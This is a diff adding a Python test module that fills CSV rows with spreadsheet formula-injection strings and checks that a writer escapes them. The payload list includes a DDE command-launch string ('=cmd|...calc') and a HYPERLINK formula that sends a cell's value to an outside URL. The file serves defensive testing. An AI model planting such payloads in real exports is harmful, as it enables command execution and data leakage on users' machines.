@@ -1,0 +1,64 @@
+"""Rows with hostile texts in every place that holds text, and what every reader of CSV has to find of them."""
+
+import re
+from collections.abc import Mapping
+from datetime import datetime
+from itertools import cycle
+from typing import Any, Final
+
+from tests.columns.fill_fields import ROWS, with_texts
+from wtisd_model.columns.columns import columns_of
+from wtisd_model.json.validator import from_json
+
+TEXTS: Final = (
+    *(
+        "=1+1",
+        "+1",
+        "-1",
+        "@SUM(1;1)",
+        "＝1",
+        "－1",
+        "＠x",
+        "﹣1",
+        "=cmd|'/C calc'!A0",
+        '"=1',
+        "'=1",
+        "''",
+        "a;=1",
+        "a,+1",
+    ),
+    *('=HYPERLINK("http://example.org/?x="&A1,"x")', "a; \u3000@x", "NA", "null", "NaN", "true", "1", "1e5", "|", "\\"),
+    *("=1+1|2", '"', "a\u200b=b", "Genève 日本 العربية"),
+)
+"""What spreadsheets work out, and what readers of CSV take for something else than text."""
+
+
+def hostile_rows(cls: type) -> list[Any]:
+    """Give as many rows as there are hostile texts, each of which comes to stand in every place."""
+    document = ROWS[cls] | ({"eventUid": "=1+1"} if "eventUid" in ROWS[cls] else {"uid": "=1+1"})
+    starts = range(len(TEXTS))
+    return [from_json(cls, with_texts(cls, document, cycle(TEXTS[at:] + TEXTS[:at]))) for at in starts]
+
+
+def cells_to_find(cls: type, rows: list[Any]) -> dict[str, list[str]]:
+    """Say what the cells of a table hold, by another way than the writer's: apostrophes are taken away again."""
+    return {column.name: [*map(_cell, column.values(rows))] for column in columns_of(cls)}
+
+
+def _cell(value: Any) -> str:
+    match value:
+        case None:
+            return ""
+        case bool():
+            return str(value).lower()
+        case datetime():
+            return f"{value:%Y-%m-%dT%H:%M:%SZ}"
+        case tuple():
+            return " | ".join(re.sub(r"([|\\])", r"\\\1", _cell(each)) for each in value)
+        case _:
+            return str(value)
+
+
+def as_they_were(cells: Mapping[str, list[str]]) -> dict[str, list[str]]:
+    """Take away the apostrophes that the writer put before what might be a formula, as docs/how-to/tables.md says."""
+    return {name: [re.sub(r"(^|[,;\t\r\n])'", r"\1", each) for each in column] for name, column in cells.items()}
